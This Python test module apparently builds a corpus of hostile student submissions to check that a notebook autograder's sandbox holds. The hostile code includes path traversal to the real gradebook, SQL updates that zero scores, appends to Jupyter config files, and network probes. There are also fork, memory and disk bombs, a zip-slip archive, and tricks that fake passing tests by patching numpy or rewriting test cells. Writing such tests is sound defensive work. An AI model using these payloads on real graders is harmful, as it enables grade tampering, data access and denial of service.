"""The adversarial corpus: submissions of the toy assignment that attack or break the grader.

Each entry: student id -> (how to build it, what the grade must be). `build(release, dest, ctx)`
makes the submission folder (or zip) at `dest`; ctx holds absolute paths an attacker would
aim at (the real gradebook, the other submissions, the repo).
Expected scores are derived from the toy's points (conftest.TOY_POINTS): test_add 2,
test_double 1, test_scale 1, test_model 1, test_noisy 1; the written answer (1 point)
needs a manual grade and counts 0 until graded.
"""
from __future__ import annotations

import copy
import zipfile
from pathlib import Path

from .conftest import REFERENCE_OPS, SOLUTION_DOUBLE, STUB_OPS, cell_by_id, make_submission

FULL = 6.0  # every autograded point of the toy; the written answer waits for a grader


def _insert_after(nb, grade_id, source):
    from nbformat.v4 import new_code_cell

    i = next(k for k, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
    nb.cells.insert(i + 1, new_code_cell(source))


def hostile_code(ctx) -> str:
    """A solution cell that is correct AND tries every escape; prints LEAKED-* on success."""
    return f'''
def double(x):
    return 2 * x

import os, socket, sqlite3, glob
L, B = "LEAK" + "ED-", "BLOCK" + "ED-"  # built at run time, so only outputs hold the markers
targets = {{
    "GRADEBOOK": [{str(ctx["gradebook"])!r}, "../../../gradebook.db", "../../gradebook.db"],
    "SOURCE": [{str(ctx["repo_source"])!r}, "../../../source", "../../source"],
    "OTHERS": [{str(ctx["other"])!r}, "../../../submitted", "../..", "../../../autograded"],
}}
for what, paths in targets.items():
    # A leak is a folder of the course (other students, submitted/, autograded/) or a file of it.
    course_names = {{"good", "stub", "submitted", "autograded", "source", "gradebook.db"}}
    leaked = [p for p in paths if os.path.isfile(p) or os.path.isdir(p) and course_names & set(os.listdir(p))]
    print((L if leaked else B) + what, leaked)
for db in targets["GRADEBOOK"]:
    try:
        con = sqlite3.connect(f"file:{{db}}?mode=rw", uri=True)
        con.execute("UPDATE grade SET manual_score = 0, auto_score = 0")
        con.execute("UPDATE grade SET extra_credit = 100")
        con.commit()
        print(L + "GRADEBOOK-WRITE", db)
    except Exception as exc:
        print(B + "GRADEBOOK-WRITE", type(exc).__name__)
# (../../../nbgrader_config.py is not tried: inside the sandbox the folders above the
# working copy are the sandbox's private tmpfs, so a write there reaches nothing; and the
# grader never reads a config file anyway.)
for cfg in [{str(ctx["out_config"])!r}, os.path.expanduser("~/.jupyter/nbgrader_config.py"),
            "/etc/jupyter/nbgrader_config.py", {str(ctx["repo_config"])!r}]:
    try:
        with open(cfg, "a") as f:
            f.write("\\nprint('PWNED')\\n")
        print(L + "CONFIG", cfg)
    except OSError as exc:
        print(B + "CONFIG", type(exc).__name__)
try:
    with open({str(ctx["other_ops"])!r}, "w") as f:
        f.write("def add(a, b):\\n    return 0\\n")
    print(L + "OTHER-WRITE")
except OSError as exc:
    print(B + "OTHER-WRITE", type(exc).__name__)
for host in [("1.1.1.1", 53), ("pypi.org", 443), ("127.0.0.1", 22)]:
    try:
        socket.create_connection(host, timeout=2).close()
        print(L + "NETWORK", host)
    except OSError as exc:
        print(B + "NETWORK", type(exc).__name__)
'''


def _hostile(release, dest, ctx):
    return make_submission(release, dest, double=hostile_code(ctx))


def _warner(release, dest, ctx):
    code = ("import warnings, numpy as np\n" + SOLUTION_DOUBLE +
            "warnings.warn('this is only a warning', UserWarning)\nnp.log(np.zeros(1))\n")
    def edit(nb):
        _insert_after(nb, "double_impl", "import warnings\nwarnings.warn('deprecated thing', DeprecationWarning)")
    return make_submission(release, dest, double=code, edit=edit)


def _sigint_loop(release, dest, ctx):
    code = SOLUTION_DOUBLE + "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n"
    return make_submission(release, dest, double=code)


def _os_exit(release, dest, ctx):
    return make_submission(release, dest, double=SOLUTION_DOUBLE + "import os\nos._exit(3)\n")


def _sys_exit(release, dest, ctx):
    return make_submission(release, dest, double=SOLUTION_DOUBLE + "import sys\nsys.exit(1)\n")


def _fork_bomb(release, dest, ctx):
    code = SOLUTION_DOUBLE + (
        "import os, time\n"
        "children = 0\n"
        "try:\n"
        "    for _ in range(100000):\n"
        "        if os.fork() == 0:\n"
        "            while True:\n"
        "                time.sleep(1)\n"
        "        children += 1\n"
        "except OSError as exc:\n"
        "    print('fork stopped after', children, type(exc).__name__)\n")
    return make_submission(release, dest, double=code)


def _memory_bomb(release, dest, ctx):
    # 64 MiB it really uses (bytearray writes its zeros), then ever more it only reserves (bytes(n)
    # is calloc'd, like np.zeros): RLIMIT_AS stops it at the cap within the corpus's 6 s cell limit
    # on any machine. A bomb that writes all the way to the cap races that limit instead: a first
    # touch costs 2.7 ms/MiB on a fresh machine here and took over 19 ms/MiB on one CI run, which
    # then reported a timeout. The bomb that writes its memory, and the cgroup that OOM-kills it,
    # are tests/sandbox/test_sandbox_run.py's, with time to spare.
    code = SOLUTION_DOUBLE + "hog = [bytearray(64 << 20)]\nwhile True:\n    hog.append(bytes(256 << 20))\n"
    return make_submission(release, dest, double=code)


def _huge_output(release, dest, ctx):
    def edit(nb):
        _insert_after(nb, "double_impl", "line = 'x' * 999\nfor _ in range(200000):\n    print(line)")
    return make_submission(release, dest, edit=edit)


def _disk_filler(release, dest, ctx):
    def edit(nb):
        _insert_after(nb, "double_impl",
                      "chunk = b'\\0' * (1 << 20)\n"
                      "for i in range(4000):\n"
                      "    try:\n"
                      "        with open(f'fill{i}.bin', 'wb') as f:\n"
                      "            for _ in range(16):\n"
                      "                f.write(chunk)\n"
                      "    except OSError as exc:\n"
                      "        print('disk full', exc)\n"
                      "        break")
    return make_submission(release, dest, edit=edit)


def _deleter(release, dest, ctx):
    def edit(nb):
        nb.cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") not in ("test_model", "question")]
    return make_submission(release, dest, edit=edit)


def _duplicator(release, dest, ctx):
    def edit(nb):
        i = next(k for k, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "test_add")
        dup = copy.deepcopy(nb.cells[i])
        dup.id = "dup-of-test-add"
        nb.cells.insert(i + 1, dup)
    return make_submission(release, dest, edit=edit)


def _renamer(release, dest, ctx):
    def edit(nb):
        cell_by_id(nb, "test_scale").metadata["nbgrader"]["grade_id"] = "my_renamed_test"
        c = cell_by_id(nb, "test_double")
        c.metadata["nbgrader"]["grade_id"] = "untagged_rename"
        c.metadata.pop("tags")
    return make_submission(release, dest, edit=edit)


def _editor(release, dest, ctx):
    # Stub code, but every test cell replaced by `pass` with 100 points and a flipped flag.
    def edit(nb):
        for c in nb.cells:
            meta = c.metadata.get("nbgrader", {})
            if meta.get("grade") and c.cell_type == "code":
                c.source = "pass"
                meta["points"] = 100
                meta["solution"] = True
    return make_submission(release, dest, ops=STUB_OPS, double=None, edit=edit)


def _retyper(release, dest, ctx):
    def edit(nb):
        c = cell_by_id(nb, "test_double")
        c.cell_type = "markdown"
        del c["outputs"], c["execution_count"]
    return make_submission(release, dest, edit=edit)


def _stripper(release, dest, ctx):
    def edit(nb):
        for c in nb.cells:
            c.metadata = {}
    return make_submission(release, dest, edit=edit)


def _monkeypatcher(release, dest, ctx):
    # Wrong scale (x * 3 always) made to pass the in-kernel check by patching numpy.
    ops = REFERENCE_OPS.replace("return x * factor", "return x * 3")
    code = SOLUTION_DOUBLE + "import numpy as np\nnp.max = lambda *a, **k: 0.0\n"
    return make_submission(release, dest, ops=ops, double=code)


def _stub(release, dest, ctx):
    return make_submission(release, dest, ops=STUB_OPS, double=None, answer=None, model=False)


def _zip_slip(release, dest, ctx):
    folder = make_submission(release, dest.parent / "_zip_slip_src", double=SOLUTION_DOUBLE)
    z = dest.parent / (dest.name + ".zip")
    with zipfile.ZipFile(z, "w") as zf:
        for p in sorted(folder.rglob("*")):
            if p.is_file():
                zf.write(p, p.relative_to(folder).as_posix())
        zf.writestr("../../zip_slip_escaped.py", "print('escaped')")
    import shutil

    shutil.rmtree(folder)
    return z


def _broken_json(release, dest, ctx):
    folder = make_submission(release, dest)
    (folder / "01_toy.ipynb").write_text('{"cells": [ {"cell_type": "code", ')
    return folder


#: student id -> (builder, expected status, expected autograded score, flags that must be present)
CORPUS = {
    "good": (lambda r, d, c: make_submission(r, d), "graded", FULL, set()),
    "stub": (_stub, "graded", 0.0, set()),
    "hostile": (_hostile, "graded", FULL, {"suspicious"}),
    "warner": (_warner, "graded", FULL, set()),
    "sigint_loop": (_sigint_loop, "partial", FULL - 1, {"timeout"}),
    "os_exit": (_os_exit, "partial", FULL - 1, {"kernel_died", "suspicious"}),
    "sys_exit": (_sys_exit, "graded", FULL, {"suspicious"}),
    "fork_bomb": (_fork_bomb, "graded", FULL, {"suspicious"}),
    "memory_bomb": (_memory_bomb, "partial", FULL, {"memory"}),
    "huge_output": (_huge_output, "partial", FULL, {"output_limit"}),
    # Its writes fill the kernel's private, sized /tmp and stop at ENOSPC: nothing to flag.
    "disk_filler": (_disk_filler, "graded", FULL, set()),
    "deleter": (_deleter, "graded", FULL, {"repaired"}),
    "duplicator": (_duplicator, "graded", FULL, {"repaired"}),
    "renamer": (_renamer, "graded", FULL, {"repaired", "suspicious"}),
    "editor": (_editor, "graded", 1.0, {"repaired", "suspicious"}),
    "retyper": (_retyper, "graded", FULL, {"repaired"}),
    "stripper": (_stripper, "graded", FULL, {"repaired"}),
    "monkeypatcher": (_monkeypatcher, "graded", FULL, {"suspicious"}),
    "zip_slip": (_zip_slip, "rejected", None, {"rejected"}),
    "broken_json": (_broken_json, "partial", 0.0, set()),
}
